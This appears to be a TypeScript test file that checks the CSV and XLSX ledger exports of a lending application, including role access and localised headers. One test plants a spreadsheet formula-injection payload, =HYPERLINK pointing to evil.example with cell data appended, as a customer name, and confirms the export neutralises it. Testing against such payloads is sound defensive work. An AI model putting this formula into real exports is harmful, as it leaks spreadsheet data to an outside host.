/** Ledger exports hold exactly the rows the screen shows, in CSV and XLSX. */
import ExcelJS from 'exceljs';
import { demoApp, type TestApp } from '../support/app';
import { createProduct, registerCustomer } from '../support/lending';

let t: TestApp;
afterEach(() => t?.cleanup());

it('exports the filtered loan ledger and the journal of one account', async () => {
  t = await demoApp('admin', 'officer', 'manager');
  t.travel('2026-03-02T02:00:00Z');
  const productId = await createProduct(t);
  const numbers: string[] = [];
  for (let i = 0; i < 2; i++) {
    const customerId = await registerCustomer(t);
    const app = await t.call(
      'applications.submit',
      { customerId, productId, amountFen: 5_000_00 + i * 100, periods: 6, purpose: '周转 working capital' },
      'officer',
    );
    expect(app.status).toBe('approved');
    const { loan } = await t.call('loans.get', { loanId: app.loanId! }, 'manager');
    await t.call('loans.disburse', { loanId: loan.id, expectedVersion: loan.version, channel: 'bank' }, 'manager');
    numbers.push(loan.number);
  }
  const range = { from: '2026-03-01', to: '2026-03-31' };
  const csv = await t.call(
    'ledger.export',
    { kind: 'loans', range, format: 'csv', language: 'zh-CN', loanFilter: { search: numbers[1] } },
    'officer',
  );
  const text = Buffer.from(csv.base64, 'base64').toString('utf8');
  expect(text.charCodeAt(0)).toBe(0xfeff);
  const lines = text.trim().split('\r\n');
  expect(lines[0]).toContain('贷款编号');
  expect(lines).toHaveLength(2);
  expect(lines[1]).toContain(numbers[1]);
  expect(lines[1]).toContain('5001.00');

  const xlsx = await t.call(
    'ledger.export',
    { kind: 'journal', range, format: 'xlsx', language: 'en', accountCode: '1303' },
    'officer',
  );
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(Buffer.from(xlsx.base64, 'base64') as unknown as ArrayBuffer);
  const sheet = book.worksheets[0]!;
  expect(sheet.getRow(1).getCell(3).value).toBe('Account code');
  expect(sheet.getRow(1).getCell(4).value).toBe('Account');
  const accounts = new Set<string>();
  sheet.eachRow((row, n) => n > 1 && accounts.add(String(row.getCell(3).value)));
  expect([...accounts]).toEqual(['1303.01']);
  expect(xlsx.rows).toBe(2);
  expect((await t.fail('ledger.export', { kind: 'loans', range, format: 'csv' }, 'agent' as never)).code).toBe(
    'NOT_AUTHENTICATED',
  );
});

it('writes a customer named =HYPERLINK(...) as text in CSV, and keeps amounts numeric', async () => {
  t = await demoApp('admin', 'officer', 'manager');
  t.travel('2026-03-02T02:00:00Z');
  const productId = await createProduct(t);
  const hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"查看")';
  const customerId = await registerCustomer(t, 'officer', { name: hostile });
  const app = await t.call(
    'applications.submit',
    { customerId, productId, amountFen: 5_000_00, periods: 6, purpose: '@SUM(1+1)' },
    'officer',
  );
  const { loan } = await t.call('loans.get', { loanId: app.loanId! }, 'manager');
  await t.call('loans.disburse', { loanId: loan.id, expectedVersion: loan.version, channel: 'bank' }, 'manager');
  const csv = await t.call(
    'ledger.export',
    { kind: 'loans', range: { from: '2026-03-01', to: '2026-03-31' }, format: 'csv', language: 'en' },
    'officer',
  );
  const [, row] = Buffer.from(csv.base64, 'base64').toString('utf8').trim().split('\r\n');
  expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""查看"")"`);
  expect(row).not.toMatch(/(^|,)"?=/);
  // The principal is a number, written as one.
  expect(row).toContain(',5000.00,');
});
